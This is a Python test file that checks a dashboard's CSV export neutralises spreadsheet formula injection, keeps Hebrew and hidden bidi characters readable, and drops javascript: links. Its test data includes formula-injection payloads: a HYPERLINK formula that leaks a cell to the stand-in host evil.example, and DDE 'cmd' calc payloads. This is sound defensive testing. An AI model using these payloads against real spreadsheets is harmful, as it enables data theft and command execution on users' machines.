"""The Queue and Legal pages' CSV download (dashboard.views.queue_csv): what a spreadsheet opens must
show hostile posts as text, never run them as formulas, and keep Hebrew readable."""

import csv
import io
from dataclasses import replace
from datetime import timedelta
from zoneinfo import ZoneInfo

from conftest import NOW

from dashboard import views
from monitor.records import QueueItem

ITEM = QueueItem(
    id=7,
    platform="x",
    external_id="1",
    url="https://x.com/u/status/1",
    author="dana",
    author_followers=1200,
    text="service was slow",
    language="en",
    created_at=NOW - timedelta(hours=2),
    label="complaint",
    scores={"complaint": 0.81, "defamation": 0.04, "boycott": 0.02},
    virality=12.4,
    forecast_24h=30.0,
    playbook="reply",
    priority=55.25,
    status="new",
    sla_due_at=NOW + timedelta(hours=1),
    own_page=False,
    is_demo=False,
    model_version="m",
)
FORMULAS = (
    '=HYPERLINK("https://evil.example/?"&A1,"click for a refund")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "%0A=1+1",
)


def rows(data: bytes) -> list[list[str]]:
    assert data.startswith("\ufeff".encode())  # the byte-order mark Excel needs to read UTF-8
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


def test_a_post_or_a_name_that_starts_like_a_formula_is_written_as_text():
    items = [replace(ITEM, id=i, text=t, author=t) for i, t in enumerate(FORMULAS, 1)]
    table = rows(views.queue_csv(items))
    assert len(table) == 1 + len(FORMULAS)
    for row, text in zip(table[1:], FORMULAS):
        assert row[15].startswith("'") and row[3].startswith("'"), row
        assert row[15].lstrip("'").replace("\\|", "|") == text  # the words are all there, inert


def test_numbers_stay_numbers_and_an_ordinary_post_is_unchanged():
    head, row = rows(views.queue_csv([ITEM], "en", ZoneInfo("Asia/Jerusalem")))
    assert head[:6] == ["#", "posted", "where", "author", "followers", "label"] and head[-2] == "post"
    assert head[-1] == "post as edited (label and triage follow it)" and row[16] == ""  # not edited
    assert row[0] == "7" and row[4] == "1200" and row[6:11] == ["0.81", "0.04", "0.02", "55.2", "12"]
    local = (NOW - timedelta(hours=2)).astimezone(ZoneInfo("Asia/Jerusalem"))
    assert row[1] == local.strftime("%Y-%m-%d %H:%M")  # the business's time zone, not UTC
    assert row[5] == "Complaint" and row[14] == "https://x.com/u/status/1" and row[15] == "service was slow"


def test_hebrew_whole_posts_line_breaks_and_hidden_characters():
    text = "שירות גרוע, חיכינו שעה\nוגם \u202etxet desrever"
    long = "א" * 600
    head, row, row2 = rows(views.queue_csv([replace(ITEM, text=text), replace(ITEM, text=long)], "he"))
    assert head[1] == "פורסם" and "post" not in head  # headings in the reader's language
    assert row[5] == "תלונה"
    assert row[15] == "שירות גרוע, חיכינו שעה\nוגם ⟨U+202E⟩txet desrever"  # one cell; override as marker
    assert row2[15] == long  # the whole post, not the table's excerpt


def test_a_javascript_link_is_left_out():
    (_, row) = rows(views.queue_csv([replace(ITEM, url="javascript:alert(1)")]))
    assert row[14] == ""
